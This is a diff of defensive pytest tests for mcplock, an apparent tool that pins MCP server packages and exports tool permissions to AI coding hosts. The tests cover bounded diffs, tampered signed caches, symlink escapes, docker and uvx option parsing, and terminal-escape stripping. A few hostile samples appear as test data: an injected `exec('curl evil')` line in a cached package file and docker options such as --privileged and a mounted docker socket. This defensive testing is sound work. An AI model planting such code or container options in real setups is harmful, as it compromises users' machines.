@@ -3,6 +3,7 @@ broke a promise. The guard's part (item 1) is tests/test_guard_wellformed.py."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -62,3 +63,404 @@ def test_the_trust_question_shows_a_sound_pin_too(cli):
     assert r.returncode == 2
     assert "npx -y x@latest" in r.stderr and "— runs the pinned npm package x@1.0.0\n" in r.stderr
     assert Path("mcp.lock").exists()
+
+
+# --- 6. the word diff is bounded on any input ---------------------------------------------------
+
+def _repetitive(words: int, changed: int, seed: int = 0) -> tuple[str, str]:
+    import random
+
+    rnd = random.Random(seed)
+    old = ("Read the file at path and return its contents to the caller. " * (words // 12 + 1)).split(" ")[:words]
+    new = list(old)
+    for _ in range(changed):
+        new[rnd.randrange(len(new))] = "CHANGED"
+    return " ".join(old), " ".join(new)
+
+
+def _replay(a, b, ops) -> list[str]:
+    out, pa, pb = [], 0, 0
+    for tag, i1, i2, j1, j2 in ops:
+        assert (i1, j1) == (pa, pb) and tag in ("equal", "delete", "insert", "replace")
+        if tag == "equal":
+            assert a[i1:i2] == b[j1:j2]
+        out += b[j1:j2]
+        pa, pb = i2, j2
+    assert (pa, pb) == (len(a), len(b))
+    return out
+
+
+@pytest.mark.parametrize("make", [
+    lambda: _repetitive(40_000, 40),  # the issue's shape: repetitive text, a few changed words
+    lambda: ("a b " * 20_000, "b a " * 20_000),  # nothing in common but two tokens
+    lambda: (" ".join(map(str, range(20_000))), " ".join(map(str, range(20_000, 0, -1)))),  # reversed
+])
+def test_the_word_diff_does_bounded_work_on_hostile_text(monkeypatch, make):
+    import difflib
+
+    from mcplock.render import changes, worddiff
+
+    old, new = make()
+    a, b = changes._TOKENS.findall(old), changes._TOKENS.findall(new)
+    sizes: list[int] = []
+    real = difflib.SequenceMatcher
+
+    def counted(*args, a=(), b=(), **kw):
+        sizes.append(len(a) * len(b))
+        return real(*args, a=a, b=b, **kw)
+
+    steps = [0]
+    step = worddiff._step
+
+    def counted_step(*args):
+        steps[0] += 1
+        return step(*args)
+
+    monkeypatch.setattr(difflib, "SequenceMatcher", counted)
+    monkeypatch.setattr(worddiff, "_step", counted_step)
+    text = changes.word_diff(old, new, color=False).plain
+    # difflib (quadratic or worse) only ever sees small pieces; Myers' steps stay linear
+    assert max(sizes, default=0) <= worddiff.SMALL
+    assert steps[0] <= 8 * (len(a) + len(b)) + worddiff.MAX_D ** 2
+    ops = worddiff.opcodes(a, b)
+    assert _replay(a, b, ops) == b
+    if "CHANGED" in new:  # the few changes read as such, not as one big replacement
+        assert text.count("{+CHANGED+}") == new.count("CHANGED") and len(ops) <= 4 * 40 + 1
+
+
+def test_the_word_diff_still_reads_as_before_on_short_text():
+    import difflib
+
+    from mcplock.render.changes import _TOKENS
+    from mcplock.render.worddiff import opcodes
+
+    for old, new in [("Read a file from disk.", "Read a file from the disk, then upload it."),
+                     ("a b c d e", "e d c b a"), ("", "x"), ("x y", "")]:
+        a, b = _TOKENS.findall(old), _TOKENS.findall(new)
+        assert opcodes(a, b) == difflib.SequenceMatcher(a=a, b=b, autojunk=False).get_opcodes()
+
+
+@pytest.mark.parametrize("small", [0, 40_000])
+def test_the_bounded_diff_is_a_true_diff(monkeypatch, small):
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
+
+    from mcplock.render import worddiff
+
+    monkeypatch.setattr(worddiff, "SMALL", small)  # 0: Myers and patience decide even short texts
+    tokens = st.lists(st.sampled_from(["a", "b", "c", " ", "d"]), max_size=120)
+
+    @settings(max_examples=300, deadline=None)
+    @given(tokens, tokens)
+    def check(a, b):
+        ops = worddiff.opcodes(a, b)
+        assert _replay(a, b, ops) == b
+        assert all(ops[i][0] != ops[i + 1][0] or ops[i][0] not in ("equal",) for i in range(len(ops) - 1))
+
+    check()
+
+
+def test_the_line_diff_of_a_long_document_is_bounded_too(monkeypatch):
+    import difflib
+
+    from mcplock.render import documents, worddiff
+
+    old = "<p>row</p>\n" * 30_000
+    new = old.replace("<p>row</p>\n", "<p>evil</p>\n", 1)
+    called: list[str] = []
+    monkeypatch.setattr(difflib.SequenceMatcher, "find_longest_match",
+                        lambda self, *a, **k: called.append("quadratic") or (_ for _ in ()).throw(AssertionError))
+    monkeypatch.setattr(worddiff, "SMALL", 0)
+    lines = [t.plain for t in documents.document_diff("text", old, new, color=False)]
+    assert not called and any("evil" in line for line in lines)
+
+
+# --- 4 and 5. export: pattern names, and ids a host sanitises into one ---------------------------
+
+def _tool(name: str) -> dict:
+    return {"name": name, "description": f"{name} tool.", "inputSchema": {"type": "object"}}
+
+
+def _export_lock(cli, names: list[str]) -> None:
+    from mcplock.lock import review, store
+    from mcplock.lock.model import Lock, ServerEntry
+
+    from lockdata import snapshot
+
+    srv = ServerEntry(name="srv", transport="stdio", command="python", args=["srv.py"])
+    review.stage(srv, snapshot([_tool(n) for n in names]))
+    for e in list(srv.entries()):
+        review.accept(srv, e)
+    store.save(Lock(servers={"srv": srv}), "mcp.lock")
+    Path(".cursor").mkdir(exist_ok=True)
+    Path(".cursor/mcp.json").write_text('{"mcpServers": {"srv": {"command": "python", "args": ["srv.py"]}}}\n')
+    Path(".claude").mkdir(exist_ok=True)
+    Path(".claude/settings.json").write_text("{}\n")
+    Path("opencode.json").write_text('{"mcp": {"srv": {"type": "local", "command": ["python", "srv.py"]}}}\n')
+
+
+def test_a_tool_named_star_is_never_exported_as_an_allow(cli):
+    _export_lock(cli, ["*", "read", "f?o"])
+    for t in ("*", "read", "f?o"):
+        assert cli("approval", f"srv/{t}", "never").returncode == 0
+    r = cli("export", "--host", "cursor", "--host", "claude-code", "--host", "opencode")
+    assert r.returncode == 0, r.stderr
+    out = r.stdout + r.stderr
+    assert "a tool name cursor would read as a pattern" in out
+    allow = json.loads(Path(".cursor/permissions.json").read_text())["mcpAllowlist"]
+    assert allow == ["srv:read"]
+    cli_json = Path(".cursor/cli.json").read_text()
+    assert "Mcp(srv:read)" in cli_json and "srv:*" not in cli_json and "srv:f?o" not in cli_json
+    perm = json.loads(Path("opencode.json").read_text())["permission"]
+    assert perm["srv_*"] == "deny" and perm["srv_read"] == "allow" and "srv__" not in perm  # `*` gets no key
+    assert "mcp__srv___" not in Path(".claude/settings.json").read_text()
+    assert cli("check").returncode == 0  # what was exported is what check expects: no loop
+    assert cli("export", "--dry-run", "--host", "cursor").returncode == 0  # nothing left to change
+
+
+def test_the_lint_flags_a_pattern_name(cli):
+    from mcplock.lint import lint_definition
+
+    found = lint_definition("tool", _tool("*"))
+    assert [f.rule for f in found] == ["pattern-name"] and found[0].severity == "high"
+    assert lint_definition("tool", _tool("read_file")) == []
+
+
+def test_a_sanitising_collision_fails_closed_with_a_clear_message(cli):
+    _export_lock(cli, ["a_b", "a~b"])
+    assert cli("approval", "srv/a_b", "never").returncode == 0
+    assert cli("disable", "srv/a~b").returncode == 0
+    r = cli("export", "--host", "opencode", "--host", "claude-code")
+    assert r.returncode == 0, r.stderr
+    out = r.stdout + r.stderr
+    assert "`srv/a_b`, `srv/a~b` are one tool id in opencode (srv_a_b): mcplock writes the strictest decision, 'deny'" \
+        in out
+    perm = json.loads(Path("opencode.json").read_text())["permission"]
+    assert perm["srv_a_b"] == "deny" and perm["mcp__srv__a_b"] == "deny"
+    claude = json.loads(Path(".claude/settings.json").read_text())["permissions"]
+    assert "mcp__srv__a_b" in claude["deny"] and "mcp__srv__a_b" not in claude.get("allow", [])
+    r = cli("check")
+    assert r.returncode == 0, r.stdout + r.stderr  # export and check agree: no loop
+    again = cli("export", "--host", "opencode", "--host", "claude-code", "--dry-run")
+    assert again.returncode == 0, again.stdout + again.stderr
+
+
+# --- 8. SIGTERM ends a guard whose host stopped reading ------------------------------------------
+# (not reproduced here: this passes on the code before too; it keeps the promise watched)
+
+def test_sigterm_ends_a_guard_whose_host_stopped_reading(cli):
+    import signal
+    import subprocess
+    import time
+
+    from test_guard import _fixture_processes
+
+    from conftest import MCPLOCK
+    from runner import SURFACES, stdio_command
+
+    Path("surface.json").write_bytes((SURFACES / "demo.json").read_bytes())
+    r = cli("add", "docs", "--yes", "--policy", "none", "--", *stdio_command(surface="surface.json", mode="chatty"))
+    assert r.returncode == 0, r.stderr
+    proc = subprocess.Popen([MCPLOCK, "run", "docs"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    assert proc.stdin is not None and proc.stdout is not None
+    init = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
+            "params": {"protocolVersion": "2025-11-25", "capabilities": {},
+                       "clientInfo": {"name": "t", "version": "1"}}}
+    proc.stdin.write((json.dumps(init) + "\n").encode())
+    proc.stdin.flush()
+    assert b'"id":1' in proc.stdout.readline()
+    call = {"name": "search_docs", "arguments": {"query": "x" * 2000}}
+    ask = "".join(json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call" if i % 2 else "tools/list",
+                              "params": call if i % 2 else {}}) + "\n" for i in range(2, 800))
+    proc.stdin.write(ask.encode())  # then never read again: the guard's stdout fills up
+    proc.stdin.flush()
+    time.sleep(3)  # let the guard block on its full stdout (not a timing assertion)
+    assert proc.poll() is None and _fixture_processes()
+    proc.send_signal(signal.SIGTERM)
+    try:
+        proc.wait(timeout=30)  # a hang detector, as everywhere in the suite
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        pytest.fail("the guard did not end on SIGTERM while its host was not reading")
+    assert proc.returncode == 143
+    deadline = time.monotonic() + 10
+    while _fixture_processes() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert not _fixture_processes(), "the server outlived the guard"
+
+
+# --- 8. the newer-lock hint, docker and uvx options ---------------------------------------------
+
+def test_the_newer_lock_hint_never_installs_a_strangers_package(cli):
+    Path("mcp.lock").write_text("version = 99\n")
+    r = cli("check")
+    assert r.returncode == 2 and "newer mcplock" in r.stderr
+    assert "pip install -U mcplock" not in r.stderr and "pipx upgrade mcplock" not in r.stderr
+    assert "git pull" in r.stderr
+
+
+@pytest.mark.parametrize(("args", "why"), [
+    (["run", "--dns-opt", "X", "IMAGE"], "IMAGE is not an image reference"),  # X was pinned, IMAGE ran
+    (["run", "--frobnicate", "X", "mcp/time"], "option --frobnicate is not one mcplock knows"),
+    (["run", "-iZ", "mcp/time"], "option -Z is not one mcplock knows"),
+])
+def test_docker_options_never_move_the_pin_to_another_word(args, why):
+    from mcplock.packages.launchers import NoPin, parse
+
+    got = parse("docker", args)
+    assert isinstance(got, NoPin) and why in got.reason, got
+
+
+def test_docker_pins_the_image_after_a_valued_option():
+    from mcplock.packages.launchers import Launch, parse
+
+    got = parse("docker", ["run", "-i", "--rm", "--dns-opt", "ndots:1", "mcp/time:1"])
+    assert isinstance(got, Launch) and (got.name, got.requested) == ("mcp/time", "1")
+
+
+@pytest.mark.parametrize(("args", "pinned"), [
+    (["--with-executables-from", "evil", "mcp-server-time"], None),  # adds a package: no pin
+    (["-wevil", "mcp-server-time"], None),  # a bundled --with
+    (["--python-preference", "only-system", "mcp-server-time"], "mcp-server-time"),  # not pinned as the package
+])
+def test_uvx_options_never_pin_their_value(args, pinned):
+    from mcplock.packages.launchers import Launch, parse
+
+    got = parse("uvx", args)
+    assert (got.name if isinstance(got, Launch) else None) == pinned, got
+
+
+# --- 7. the package cache's manifest is signed with the machine key ------------------------------
+
+def test_a_cache_entry_edited_with_its_manifest_is_not_run(tmp_path):
+    from mcplock.packages import cache
+
+    env = {"MCPLOCK_CACHE_DIR": str(tmp_path / "cache"), "XDG_DATA_HOME": str(tmp_path / "data"),
+           "HOME": str(tmp_path)}
+    pin = PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY, "sha256:" + "c" * 64)
+    d = cache.pin_dir(pin, env)
+    tmp = cache._tmp(d)
+    (tmp / "index.js").write_text("console.log('ok')\n")
+    cache._publish(tmp, d, {"pin": pin.stored(), "tree-integrity": pin.tree_integrity}, env)
+    assert cache._verified(d, pin, "s", env) is not None  # as installed: warm
+    # the attacker rewrites a file and the manifest to match (what the unsigned manifest let run)
+    (d / "index.js").write_text("require('child_process').exec('curl evil')\n")
+    manifest = json.loads((d / cache.MANIFEST).read_text())
+    manifest["files"] = cache.file_hashes(d)
+    manifest["content"] = cache.content_hash(manifest["files"])
+    (d / cache.MANIFEST).write_text(json.dumps(manifest))
+    assert cache._verified(d, pin, "s", env) is None  # not ours: set aside, installed afresh
+    assert not d.exists() and not list(d.parent.glob(f"{d.name}.unsigned-*"))
+    # an entry signed with another machine's key (a CI cache restored from elsewhere) likewise
+    tmp = cache._tmp(d)
+    (tmp / "index.js").write_text("console.log('ok')\n")
+    cache._publish(tmp, d, {"pin": pin.stored(), "tree-integrity": pin.tree_integrity},
+                   {**env, "XDG_DATA_HOME": str(tmp_path / "elsewhere")})
+    assert cache._verified(d, pin, "s", env) is None
+
+
+# --- 3. git dependencies and links out of the cache are under tree-integrity -------------------
+
+def test_a_git_dependencys_new_commit_is_a_new_tree():
+    from mcplock.packages.cache import npm_tree, tree_hash
+
+    def lock(commit: str) -> dict:
+        return {"": {"name": "mcplock-pin"},
+                "node_modules/srv": {"version": "1.0.0", "integrity": NPM_INTEGRITY},
+                "node_modules/dep": {"version": "2.0.0",
+                                     "resolved": f"git+ssh://git@github.com/evil/dep.git#{commit}"}}
+
+    assert npm_tree(lock("a" * 40)) != npm_tree(lock("b" * 40))
+    linked = lock("a" * 40)
+    linked["node_modules/dep"] = {"version": "2.0.0", "resolved": "../elsewhere", "link": True}
+    assert npm_tree(linked) != npm_tree(lock("a" * 40))
+    # a tree whose every entry has an integrity hashes as before (pins made earlier still match)
+    plain = {"node_modules/srv": {"version": "1.0.0", "integrity": NPM_INTEGRITY}}
+    assert npm_tree(plain) == tree_hash({"node_modules/srv": ["1.0.0", NPM_INTEGRITY]})
+
+
+def test_a_link_out_of_the_cache_is_found(tmp_path):
+    import os
+
+    from mcplock.packages.cache import escaping_link
+
+    root = tmp_path / "entry"
+    (root / "node_modules" / "srv").mkdir(parents=True)
+    (root / "node_modules" / "srv" / "bin.js").write_text("x")
+    (root / "node_modules" / ".bin").mkdir()
+    os.symlink("../srv/bin.js", root / "node_modules" / ".bin" / "srv")  # inside: fine
+    assert escaping_link(root) is None
+    (tmp_path / "elsewhere").mkdir()
+    os.symlink(tmp_path / "elsewhere", root / "node_modules" / "dep")
+    assert escaping_link(root) == os.path.join("node_modules", "dep")
+
+
+# --- 9. the rest -------------------------------------------------------------------------------
+
+def test_call_prints_no_raw_c1_or_bidi_from_a_result(cli):
+    import sys
+
+    from conftest import ROOT
+
+    r = cli("add", "echo", "--yes", "--policy", "none", "--", sys.executable, str(ROOT / "fixtures" / "forger.py"))
+    assert r.returncode == 0, r.stderr
+    r = cli("call", "echo/echo", "--args", json.dumps({"text": "a\u009b31m b\u202ec"}))  # echoed back
+    assert r.returncode == 0, r.stderr
+    assert "\u009b" not in r.stdout and "\u202e" not in r.stdout
+    assert "\\u009b" in r.stdout and "\\u202e" in r.stdout
+    assert json.loads(r.stdout)["content"][0]["text"] == "echo: a\u009b31m b\u202ec"  # the same JSON
+
+
+@pytest.mark.parametrize("record", ["trust.json", "machine.key"])
+def test_a_world_writable_trust_record_or_machine_key_is_refused(cli, record):
+    import os
+
+    from mcplock import paths
+
+    write_lock(s=("npx", ["-y", "x"], PackagePin("npm", "x", "1.0.0", NPM_INTEGRITY)))
+    assert cli("trust", "s").returncode == 0  # makes trust.json (and the key, on a first guard start)
+    path = paths.data_dir() / record
+    if not path.exists():
+        path.write_bytes(os.urandom(32))
+        path.chmod(0o600)
+    path.chmod(0o666)
+    r = cli("run", "s")
+    assert r.returncode == 2, r.stderr
+    assert "can be written by others than you" in r.stderr and f"chmod 600 {path}" in r.stderr
+
+
+def test_export_keeps_a_byte_order_mark_of_a_host_file(cli):
+    _export_lock(cli, ["read"])
+    Path(".claude/settings.json").write_bytes(b'\xef\xbb\xbf{"permissions": {"allow": ["Bash(ls)"]}}\n')
+    r = cli("export", "--host", "claude-code")
+    assert r.returncode == 0, r.stderr
+    data = Path(".claude/settings.json").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf") and b"Bash(ls)" in data and b"mcp__srv__read" in data
+    assert cli("export", "--host", "claude-code", "--dry-run").returncode == 0
+
+
+def test_export_guard_refuses_a_lock_name_the_host_would_expand(cli):
+    _export_lock(cli, ["read"])
+    Path("mcp.lock").rename("a${HOME}.lock")
+    Path(".mcp.json").write_text('{"mcpServers": {"srv": {"command": "python", "args": ["srv.py"]}}}\n')
+    before = Path(".mcp.json").read_bytes()
+    r = cli("--lockfile", "a${HOME}.lock", "export", "--guard", "--host", "claude-code")
+    assert r.returncode == 2, r.stdout + r.stderr
+    assert "would read as its own `${VAR}` syntax" in r.stderr and "rename the lock file" in r.stderr
+    assert Path(".mcp.json").read_bytes() == before
+
+
+def test_the_trust_question_says_when_a_container_reaches_the_host(cli):
+    from mcplock.core.trust import describe
+
+    def line(*options: str) -> str:
+        return describe(ServerSpec(name="d", transport="stdio", command="docker",
+                                   args=("run", "-i", "--rm", *options, "mcp/time")))
+
+    for opts, shown in [(("--privileged",), "--privileged"), (("-v", "/:/host"), "-v /:/host"),
+                        (("--network", "host"), "--network host"), (("--pid=host",), "--pid=host"),
+                        (("-v", "/var/run/docker.sock:/var/run/docker.sock"), "/var/run/docker.sock")]:
+        text = line(*opts)
+        assert "THE CONTAINER REACHES THE HOST" in text and shown in text, text
+    assert "REACHES THE HOST" not in line("-v", "./data:/data", "-e", "A=1")
